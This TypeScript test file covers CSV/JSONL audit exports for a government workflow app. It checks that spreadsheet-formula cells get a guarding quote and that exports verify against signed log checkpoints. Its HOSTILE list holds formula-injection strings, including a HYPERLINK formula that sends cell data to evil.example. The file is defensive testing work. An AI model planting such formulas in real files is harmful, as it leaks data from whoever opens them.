import crypto from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { describeBackends } from './support/db';
import { PUBLIC_URL, startTestApp, type TestApp } from './support/app';
import { integrateAll } from './support/log-fixtures';
import { defaultLogOrigin } from '../src/config';
import { logVerifierKey, policyFromKeys } from '../src/audit/tlog';
import { proposal } from './support/proposals';
import { grms } from './support/cli';
import { verifyExportFile } from '../src/audit/verify-file';
import { CsvParser, csvField, formulaLike, spreadsheetValue } from '../src/audit/csv';
import { CSV_LABELS, EXPORT_FORMAT } from '../src/audit/export';
import { independentCosignatureTime } from './support/independent-cosignature';

const README = path.join(__dirname, '..', 'README.md');
const FIXTURES = path.join(__dirname, 'fixtures');

/** Comments an attacker would write to run something in the auditor's spreadsheet. */
const HOSTILE = [
  '=HYPERLINK("https://evil.example/?d="&A1,"Klik")', '+62 812 0000', '-1 baris', '@SUM(1+1)',
  '\tTab di depan', '\rCR di depan', "'kutip di depan", "'=sudah berkutip",
];

/**
 * The checkpoint key a deployment published when it wrote `file`: the test pins it as an auditor
 * pins the key `grms key show` printed (verification never takes it from the file by itself).
 */
function publishedKey(file: string): string {
  const lines = fs.readFileSync(file, 'utf8').trim().split(/\r?\n/);
  const last = lines[lines.length - 1]!;
  const record = last.startsWith('{') ? JSON.parse(last) : JSON.parse(new CsvParser().push(`${last}\n`)[0]!.at(-1)!);
  return record.publicKeyPem as string;
}

function keyFile(pem: string): string {
  const file = path.join(dir, `key-${crypto.randomUUID()}.pem`);
  fs.writeFileSync(file, pem);
  return file;
}

function parseCsv(text: string): { header: string[]; events: Array<Array<string | null>>; meta: Record<string, unknown> } {
  const records = new CsvParser().push(text);
  const header = records[0]!.map((f) => (f ?? '').replace(/^\uFEFF/, ''));
  const metaRow = records.find((r) => r[0] === 'meta')!;
  return { header, events: records.filter((r) => r[0] === 'event'), meta: JSON.parse(metaRow[metaRow.length - 1]!) };
}

let dir: string;
beforeAll(() => {
  dir = fs.mkdtempSync(path.join(os.tmpdir(), 'grms-export-format-'));
});
afterAll(() => {
  fs.rmSync(dir, { recursive: true, force: true });
});

describeBackends('audit export: cells a spreadsheet would run', (kind) => {
  let app: TestApp;
  let id: string;
  beforeAll(async () => {
    app = await startTestApp(kind);
    id = (await app.call('perencana.pupr', 'POST', '/api/v1/instances', { workflow: 'budget-proposal', data: proposal({ title: 'Jalan Kaligarang' }) })).body.id;
    expect((await app.call('perencana.pupr', 'POST', `/api/v1/instances/${id}/events`, { type: 'submit' })).status).toBe(200);
    for (const comment of HOSTILE) {
      expect((await app.call('kadis.pupr', 'POST', `/api/v1/instances/${id}/comments`, { comment })).status).toBe(201);
    }
    expect((await app.call('kadis.pupr', 'POST', `/api/v1/instances/${id}/events`, { type: 'return', comment: '=1+1' })).status).toBe(200);
    // Integrate and checkpoint the log now: the export ends at that checkpoint.
    await integrateAll(app.db.kysely);
    expect((await app.call('admin', 'POST', '/api/v1/log/checkpoint')).status).toBe(200);
  });
  afterAll(async () => {
    await app.close();
  });

  test('every such cell leaves with a leading \', reads back as written, and the file verifies offline (CLI too)', async () => {
    const res = await fetch(`${app.url}/api/v1/audit/export?format=csv&instance=${id}`, { headers: { authorization: `Bearer ${app.tokens['auditor.inspektorat']}` } });
    expect(res.status).toBe(200);
    const bytes = Buffer.from(await res.arrayBuffer());
    const { header, events, meta } = parseCsv(bytes.toString('utf8'));
    expect(meta.format).toBe('grms-audit-export/3');
    // No event cell, in any column, starts a formula.
    const live = events.flatMap((r) => r.filter((cell) => cell !== null && formulaLike(cell)));
    expect(live).toEqual([]);
    const comments = events.map((r) => r[header.indexOf('Catatan')]).filter((c): c is string => c !== null);
    expect(comments).toEqual([...HOSTILE, '=1+1'].map((c) => `'${c}`));
    expect(comments.map(spreadsheetValue)).toEqual([...HOSTILE, '=1+1']);

    const file = path.join(dir, `hostile-${kind}.csv`);
    fs.writeFileSync(file, bytes);
    const publicKeyPem = (await app.call('auditor.inspektorat', 'GET', '/api/v1/audit/public-key')).body.publicKeyPem as string;
    const vkey = logVerifierKey(defaultLogOrigin(PUBLIC_URL), crypto.createPublicKey(publicKeyPem));
    const pinned = { policy: policyFromKeys(vkey, []) };
    expect(await verifyExportFile(file, pinned)).toMatchObject({ ok: true, checked: events.length, chains: 1, broken: [], log: { rowsProven: events.length } });
    // base64 proof hashes that begin with + are guarded like any other cell.
    expect(events.map((r) => r[header.indexOf(CSV_LABELS.log_proof!)]).every((p) => p === null || !formulaLike(p!))).toBe(true);
    const cli = grms(['audit', 'verify', '--file', file, '--log-key', keyFile(vkey)], {});
    expect({ status: cli.status, ok: JSON.parse(cli.stdout).ok }).toEqual({ status: 0, ok: true });

    // The hash covers values, not their spelling: a guard taken out is reported by itself.
    const unguarded = path.join(dir, `unguarded-${kind}.csv`);
    fs.writeFileSync(unguarded, bytes.toString('utf8').replace(`"'=HYPERLINK(`, '"=HYPERLINK('));
    const r = await verifyExportFile(unguarded, pinned);
    expect(r.ok).toBe(false);
    expect(r.broken).toEqual([expect.objectContaining({ instanceId: id, reason: expect.stringMatching(/^comment: a cell a spreadsheet would run as a formula/) })]);

    // JSONL needs no guard: the values are as stored.
    const jsonl = await app.call('auditor.inspektorat', 'GET', `/api/v1/audit/export?format=jsonl&instance=${id}`);
    const lines = jsonl.text.trim().split('\n').map((l) => JSON.parse(l));
    // JSONL carries the log columns, but no local time: its keys are the column names, times in UTC.
    expect(lines[0]).toMatchObject({ record: 'meta', format: 'grms-audit-export/3' });
    expect(lines[0].timeZone).toBeUndefined();
    expect(lines.filter((l) => 'created_at_local' in l)).toEqual([]);
    expect(lines.filter((l) => l.record === 'event' && l.comment !== null).map((l) => l.comment)).toEqual([...HOSTILE, '=1+1']);
  });
});

describe('audit export format versions', () => {
  test('files written in version 1 (before the guard) still verify, CSV and JSONL, cells taken as they are', async () => {
    for (const name of ['audit-export-v1.csv', 'audit-export-v1.jsonl']) {
      const file = path.join(FIXTURES, name);
      const result = await verifyExportFile(file, { publicKeyPem: publishedKey(file) });
      expect({ name, ...result }).toMatchObject({ name, ok: true, checked: 11, chains: 1, broken: [] });
      expect(result.checkpoint).toMatchObject({ signature: 'valid', key: 'given', headsChecked: 1 });
    }
    const { header, events, meta } = parseCsv(fs.readFileSync(path.join(FIXTURES, 'audit-export-v1.csv'), 'utf8'));
    expect(meta.format).toBe('grms-audit-export/1');
    // Version 1 wrote the formula as it was, and a leading ' of the value itself is kept.
    const comments = events.map((r) => r[header.indexOf('comment')]);
    expect(comments).toContain('=HYPERLINK("https://evil.example/?d="&A1,"Klik")');
    expect(comments).toContain("'kutip di depan");
    const v1 = path.join(FIXTURES, 'audit-export-v1.csv');
    expect(grms(['audit', 'verify', '--file', v1, '--log-key', keyFile(publishedKey(v1))], {}).status).toBe(0);
  });

  test('files written in version 2 (rows with the instance columns of migration 0026, a checkpoint, a row after it) still verify', async () => {
    for (const name of ['audit-export-v2.csv', 'audit-export-v2.jsonl']) {
      const file = path.join(FIXTURES, name);
      const result = await verifyExportFile(file, { publicKeyPem: publishedKey(file) });
      expect({ name, ...result }).toMatchObject({ name, ok: true, checked: 9, chains: 2, segments: 0, broken: [] });
      expect(result.checkpoint).toMatchObject({ format: 2, signature: 'valid', key: 'given', headsChecked: 2 });
      const cli = grms(['audit', 'verify', '--file', file, '--log-key', keyFile(publishedKey(file))], {});
      expect({ name, status: cli.status, ok: JSON.parse(cli.stdout).ok }).toEqual({ name, status: 0, ok: true });
    }
    const { header, meta } = parseCsv(fs.readFileSync(path.join(FIXTURES, 'audit-export-v2.csv'), 'utf8'));
    expect(meta.format).toBe('grms-audit-export/2');
    expect(header).toEqual(expect.arrayContaining(['instance_version', 'instance_org', 'instance_digest']));
    // A row altered in a version 2 file is still caught.
    const altered = path.join(dir, 'v2-altered.jsonl');
    fs.writeFileSync(altered, fs.readFileSync(path.join(FIXTURES, 'audit-export-v2.jsonl'), 'utf8').replace('catatan biasa', 'catatan lain'));
    expect(await verifyExportFile(altered, { publicKeyPem: publishedKey(altered) })).toMatchObject({ ok: false, broken: [expect.objectContaining({ reason: 'hash does not match the row (row altered)' })] });
  });

  test('the README\'s earlier worked example (version 2, before migration 0026: column names as headings, no local time) still verifies', async () => {
    const file = path.join(FIXTURES, 'audit-export-v2-readme.csv');
    expect(await verifyExportFile(file, { publicKeyPem: publishedKey(file), allowUncheckedTail: true })).toMatchObject({ ok: true, checked: 1, chains: 1, segments: 1, broken: [] });
    const { header, meta } = parseCsv(fs.readFileSync(file, 'utf8'));
    expect(meta.format).toBe('grms-audit-export/2');
    expect(header.slice(0, 3)).toEqual(['record', 'instance_id', 'seq']);
  });

  test('a format this version does not know is refused, not guessed at', async () => {
    const file = path.join(dir, 'future.jsonl');
    const text = fs.readFileSync(path.join(FIXTURES, 'audit-export-v1.jsonl'), 'utf8').replace('"format":"grms-audit-export/1"', '"format":"grms-audit-export/9"');
    fs.writeFileSync(file, text);
    await expect(verifyExportFile(file, { publicKeyPem: publishedKey(file) })).rejects.toThrow(/format grms-audit-export\/9; reads grms-audit-export\/1, grms-audit-export\/2, grms-audit-export\/3/);
  });

  test('the README\'s worked example: its cells are what the writer writes, and its whole file verifies, also by a verifier written from the specifications', async () => {
    const readme = fs.readFileSync(README, 'utf8');
    const between = (name: string) => {
      const m = new RegExp(`<!-- ${name}:start -->\\n([\\s\\S]*?)<!-- ${name}:end -->`).exec(readme);
      if (!m) throw new Error(`README has no ${name} block`);
      return m[1]!;
    };
    const rows = between('export-cells').trim().split('\n').slice(2)
      .map((line) => /^\| `(.*)` \| `(.*)` \|$/.exec(line)!)
      .map((m) => ({ value: m[1]!, cell: m[2]! }));
    expect(rows.length).toBeGreaterThanOrEqual(5);
    for (const { value, cell } of rows) {
      expect({ value, written: csvField(value) }).toEqual({ value, written: cell });
      const [[read]] = new CsvParser().push(`${cell}\n`) as [[string]];
      expect({ cell, value: spreadsheetValue(read) }).toEqual({ cell, value });
    }

    // The whole example file verifies with the keys the README pins (and with the CLI, as it says).
    const example = /```jsonl\n([\s\S]*?)```/.exec(between('export-example'))![1]!;
    expect(example).toContain(`"format":"${EXPORT_FORMAT}"`);
    const [logKey, witnessKey] = /```text\n([\s\S]*?)```/.exec(between('export-keys'))![1]!.trim().split('\n') as [string, string];
    const file = path.join(dir, 'readme-example.jsonl');
    fs.writeFileSync(file, example);
    const verdict = await verifyExportFile(file, { policy: policyFromKeys(logKey, [witnessKey], 'all') });
    expect(verdict).toMatchObject({ ok: true, checked: 2, chains: 1, broken: [], warnings: [] });
    expect(verdict.log).toMatchObject({ checked: true, basis: 'cosigned', quorumMet: true, rowsProven: 2, leftOut: 1, size: 10 });
    const cli = grms(['audit', 'verify', '--file', file, '--log-key', logKey, '--witness-key', witnessKey], {});
    expect({ status: cli.status, ok: JSON.parse(cli.stdout).ok }).toEqual({ status: 0, ok: true });

    // The checkpoint and leaf shown are the example's, and a verifier written here from the
    // specifications alone (C2SP signed-note, tlog-cosignature, RFC 8785, RFC 9162) accepts them.
    const records = example.trim().split('\n').map((l) => JSON.parse(l));
    const note = /```text\n([\s\S]*?)```/.exec(between('export-checkpoint'))![1]!;
    expect(note).toBe(records[0].log.checkpoint);
    const leafBlock = between('export-leaf');
    const entry = /```json\n(.*)\n```/.exec(leafBlock)![1]!;
    const leafHex = /leaf hash \(hex\): `([0-9a-f]{64})`/.exec(leafBlock)![1]!;
    const body = note.slice(0, note.indexOf('\n\n') + 1);
    const [origin, sizeText, rootText] = body.trimEnd().split('\n') as [string, string, string];
    const signatures = note.slice(body.length + 1).trimEnd().split('\n');
    expect(independentNoteSignature(body, signatures[0]!, logKey)).toBe(true);
    expect(origin).toBe(logKey.split('+')[0]);
    expect(signatures.map((l) => independentCosignatureTime(body, l, witnessKey)).filter((t) => t !== null)).toHaveLength(1);
    const sha256 = (...parts: Buffer[]) => crypto.createHash('sha256').update(Buffer.concat(parts)).digest();
    const jcs = (v: unknown): string => (v !== null && typeof v === 'object'
      ? `{${Object.keys(v).sort().map((k) => `${JSON.stringify(k)}:${jcs((v as Record<string, unknown>)[k])}`).join(',')}}`
      : JSON.stringify(v));
    const leafOf = (row: Record<string, unknown>) => {
      const hashed = Object.fromEntries(records[0].columns.map((c: { name: string }) => [c.name, row[c.name]]).filter(([, v]: [string, unknown]) => v !== null));
      return jcs({ v: 1, source: 'audit_events', key: `${row.instance_id}/${row.seq}`, salt: row.log_salt, row: hashed });
    };
    const events = records.filter((r) => r.record === 'event');
    expect(leafOf(events[0])).toBe(entry);
    expect(sha256(Buffer.from([0]), Buffer.from(entry, 'utf8')).toString('hex')).toBe(leafHex);
    for (const row of events) {
      const leaf = sha256(Buffer.from([0]), Buffer.from(leafOf(row), 'utf8'));
      const proof = (row.log_proof as string).split(' ').filter(Boolean).map((h) => Buffer.from(h, 'base64'));
      expect(independentRoot(row.log_index, Number(sizeText), leaf, proof)?.toString('base64')).toBe(rootText);
    }

    // The same export as CSV: headings for people, the local time beside the UTC one, the same
    // rows proven against the same checkpoint by the same pinned keys.
    const csvExample = /```csv\n([\s\S]*?)```/.exec(between('export-example-csv'))![1]!;
    const csvFile = path.join(dir, 'readme-example.csv');
    fs.writeFileSync(csvFile, csvExample.replace(/\n/g, '\r\n'));
    const csvVerdict = await verifyExportFile(csvFile, { policy: policyFromKeys(logKey, [witnessKey], 'all') });
    expect(csvVerdict).toMatchObject({ ok: true, format: EXPORT_FORMAT, checked: 2, chains: 1, broken: [], warnings: [] });
    expect(csvVerdict.log).toMatchObject({ checked: true, quorumMet: true, rowsProven: 2, leftOut: 1, size: 10 });
    const csvCli = grms(['audit', 'verify', '--file', csvFile, '--log-key', logKey, '--witness-key', witnessKey], {});
    expect({ status: csvCli.status, ok: JSON.parse(csvCli.stdout).ok }).toEqual({ status: 0, ok: true });
    const { header, events: csvEvents, meta } = parseCsv(csvExample);
    expect(meta).toEqual({ ...records[0], timeZone: 'Asia/Jakarta' });
    expect(header.slice(0, 3)).toEqual(['Jenis baris', 'ID proses', 'Urutan']);
    expect(header.slice(header.indexOf('Waktu (UTC)'), header.indexOf('Waktu (UTC)') + 2)).toEqual(['Waktu (UTC)', 'Waktu (WIB)']);
    expect(csvEvents.map((r) => r[header.indexOf('Sidik baris')])).toEqual(events.map((r) => r.hash));
    expect(csvEvents.map((r) => r[header.indexOf('Waktu (WIB)')])).toEqual(['2026-12-07 22:33:57', '2026-12-07 22:34:00']);
  });
});

/** RFC 9162 §2.1.3.2: the root an inclusion proof leads to, or null when the proof does not fit the size. */
function independentRoot(index: number, size: number, leaf: Buffer, proof: Buffer[]): Buffer | null {
  const node = (l: Buffer, r: Buffer) => crypto.createHash('sha256').update(Buffer.concat([Buffer.from([1]), l, r])).digest();
  if (index >= size) return null;
  let fn = index;
  let sn = size - 1;
  let r = leaf;
  for (const p of proof) {
    if (sn === 0) return null;
    if (fn % 2 === 1 || fn === sn) {
      r = node(p, r);
      while (fn % 2 === 0 && fn !== 0) {
        fn >>= 1;
        sn >>= 1;
      }
    } else {
      r = node(r, p);
    }
    fn >>= 1;
    sn >>= 1;
  }
  return sn === 0 ? r : null;
}

/** C2SP signed-note: an Ed25519 signature line by the log's verifier key over the note body. */
function independentNoteSignature(body: string, line: string, vkey: string): boolean {
  const [name, idHex, ...rest] = vkey.split('+');
  const material = Buffer.from(rest.join('+'), 'base64');
  if (material[0] !== 0x01 || material.length !== 33) return false;
  const keyId = crypto.createHash('sha256').update(Buffer.concat([Buffer.from(`${name}\n`, 'utf8'), Buffer.from([0x01]), material.subarray(1)])).digest().subarray(0, 4);
  const m = /^\u2014 (\S+) (\S+)$/u.exec(line);
  if (keyId.toString('hex') !== idHex || !m || m[1] !== name) return false;
  const sig = Buffer.from(m[2]!, 'base64');
  if (!sig.subarray(0, 4).equals(keyId)) return false;
  const key = crypto.createPublicKey({ key: Buffer.concat([Buffer.from('302a300506032b6570032100', 'hex'), material.subarray(1)]), format: 'der', type: 'spki' });
  return crypto.verify(null, Buffer.from(body, 'utf8'), key, sig.subarray(4));
}
